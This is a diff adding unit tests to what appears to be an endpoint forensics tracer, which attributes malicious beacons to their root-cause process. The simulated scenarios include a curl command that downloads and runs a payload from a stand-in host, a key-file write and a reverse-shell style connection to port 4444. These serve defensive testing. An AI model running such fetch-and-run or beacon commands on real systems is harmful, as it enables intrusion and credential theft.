@@ -158,6 +158,35 @@ TEST(Trace, AnotherLocalPort_isAnotherConnection) {
     EXPECT_DOUBLE_EQ(confidenceOf(trace(s, translated), TraceEdge::Relation::Connected), 0.7);
 }
 
+TEST(Trace, SamePortOfAnotherLocalAddress_isNotExact) {
+    Scenario s;
+    const auto init = s.running(kInit);
+    const auto other = s.at(10).run(init, "/home/sato/other");
+    Connected connected;
+    connected.local = *IpAddress::parse("172.17.0.2"); // of a container
+    connected.remote = *IpAddress::parse(kEvil);
+    connected.localPort = 50'000;
+    connected.remotePort = 4444;
+    s.tell(other, connected);
+    EXPECT_DOUBLE_EQ(confidenceOf(trace(s, beacon(10)), TraceEdge::Relation::Connected), 0.7);
+    const auto right = s.run(init, "/home/sato/.update");
+    s.at(10.5).connect(right, kEvil, 4444, 50'000);
+    const Trace t = trace(s, beacon(10));
+    EXPECT_EQ(ownerOf(t), right);
+    EXPECT_THAT(gapIds(t), Not(Contains("endpoint.gap.owners")));
+}
+
+TEST(Trace, ProgramThatRanLongBefore_isFollowedAfterItsConnection) {
+    Scenario s;
+    const auto p = s.at(10).run(s.running(kInit), "/home/sato/.update");
+    const double later = 5 * 24 * 3600;
+    s.at(later).connect(p, kEvil, 4444, 50'000);
+    s.at(later + 60).write(p, "/home/sato/.keys", {8, 9});
+    const Trace t = trace(s, beacon(later));
+    EXPECT_EQ(label(t, t.subject), "/home/sato/.update");
+    EXPECT_THAT(blast(t, TraceNode::Kind::File), Contains("/home/sato/.keys"));
+}
+
 TEST(Trace, TwoPossibleOwners_areSaidToBeTwo) {
     Scenario s;
     const auto init = s.running(kInit);
@@ -237,6 +266,74 @@ TEST(Trace, Stopped_isCancelled) {
     const auto result = traceRootCause(*d.s.history(), beacon(200), {}, stop.get_token());
     ASSERT_FALSE(result.ok());
     EXPECT_EQ(result.error().code, ErrorCode::Cancelled);
+}
+
+namespace {
+
+/// Two programs that somebody started at one shell: one drops a payload and starts it, the other is somebody's work.
+struct TwoSiblings {
+    Scenario s;
+    ProcessUid payload;
+    TwoSiblings(const std::string& shellPath, ProcessUid (*terminal)(Scenario&)) {
+        const auto shell = s.at(5).run(terminal(s), shellPath, {"-" + shellPath.substr(shellPath.rfind('/') + 1)});
+        const auto editor = s.at(8).run(shell, "/usr/bin/vim", {"vim", "notes"});
+        const auto fetch = s.at(10).run(shell, "/usr/bin/curl", {"curl", "-o", "/home/sato/.u", "http://203.0.113.8/u"});
+        s.connect(fetch, kDrop, 80, 40'000);
+        s.write(fetch, "/home/sato/.u", {8, 77});
+        payload = s.at(20).run(shell, "/home/sato/.u", {"./.u"}, {8, 77});
+        s.write(payload, "/home/sato/.keys", {8, 78});
+        s.at(30).write(editor, "/home/sato/notes", {8, 79});
+        s.connect(s.run(shell, "/usr/bin/ssh", {"ssh", "h"}), "203.0.113.7", 22, 40'001);
+        s.at(40).connect(payload, kEvil, 4444, 50'000);
+    }
+    void check() {
+        const Trace t = trace(s, beacon(40));
+        EXPECT_EQ(label(t, t.subject), "/home/sato/.u");
+        EXPECT_EQ(t.entry, EntryVector::Download);
+        EXPECT_THAT(blast(t, TraceNode::Kind::File), testing::UnorderedElementsAre("/home/sato/.u", "/home/sato/.keys"));
+        EXPECT_THAT(blast(t, TraceNode::Kind::Connection), testing::UnorderedElementsAre("203.0.113.9:4444"));
+        for (const std::string& process : blast(t, TraceNode::Kind::Process)) {
+            EXPECT_THAT(process, testing::AnyOf("/home/sato/.u", "/usr/bin/curl"));
+        }
+    }
+};
+
+ProcessUid sshd(Scenario& s) { return s.running("/usr/sbin/sshd", s.running(kInit)); }
+ProcessUid terminal(Scenario& s) { return s.running("/usr/libexec/gnome-terminal-server", s.running(kInit)); }
+ProcessUid shellInShell(Scenario& s) { return s.run(s.run(s.run(terminal(s), "/bin/bash", {"bash"}), "/usr/bin/sudo", {"sudo", "-i"}), "/bin/bash", {"-bash"}); }
+
+} // namespace
+
+TEST(Trace, InteractiveShell_isNotTheDropper_andItsOtherChildrenAreNotIts) {
+    for (const auto parent : {sshd, terminal, shellInShell}) {
+        TwoSiblings("/bin/bash", parent).check();
+        TwoSiblings("/opt/homebrew/bin/zsh", parent).check(); // of no package
+    }
+}
+
+TEST(Trace, ShellOfAProgram_isThatProgramsDoing) {
+    Scenario s;
+    const auto rat = s.at(5).run(s.running(kInit), "/home/sato/.rat", {}, {8, 5});
+    const auto shell = s.run(rat, "/bin/bash", {"bash", "-i"}); // a shell for somebody far away
+    const auto fetch = s.at(10).run(shell, "/usr/bin/curl", {"curl", "-o", "/tmp/u", "http://203.0.113.8/u"});
+    s.write(fetch, "/tmp/u", {8, 77});
+    s.run(shell, "/usr/bin/id");
+    s.at(20).connect(s.run(shell, "/tmp/u", {}, {8, 77}), kEvil, 4444, 50'000);
+    const Trace t = trace(s, beacon(20));
+    EXPECT_EQ(label(t, t.subject), "/tmp/u");
+    EXPECT_THAT(blast(t, TraceNode::Kind::Process), Contains("/usr/bin/id"));
+}
+
+TEST(Trace, ProgramThatAShellBecame_isBlamedFromThenOn) {
+    Scenario s;
+    const auto shell = s.at(5).run(sshd(s), "/bin/bash", {"-bash"});
+    s.write(s.at(8).run(shell, "/usr/bin/vim"), "/home/sato/notes", {8, 79});
+    s.at(10).exec(shell, "/home/sato/.u", {"./.u"}, {8, 77});
+    s.at(20).write(shell, "/home/sato/.keys", {8, 78});
+    s.connect(shell, kEvil, 4444, 50'000);
+    const Trace t = trace(s, beacon(20));
+    EXPECT_EQ(label(t, t.subject), "/home/sato/.u");
+    EXPECT_THAT(blast(t, TraceNode::Kind::File), testing::AllOf(Contains("/home/sato/.keys"), Not(Contains("/home/sato/notes"))));
 }
 
 TEST(Trace, ConnectionToldAgainAtItsEnd_hasEnded) {
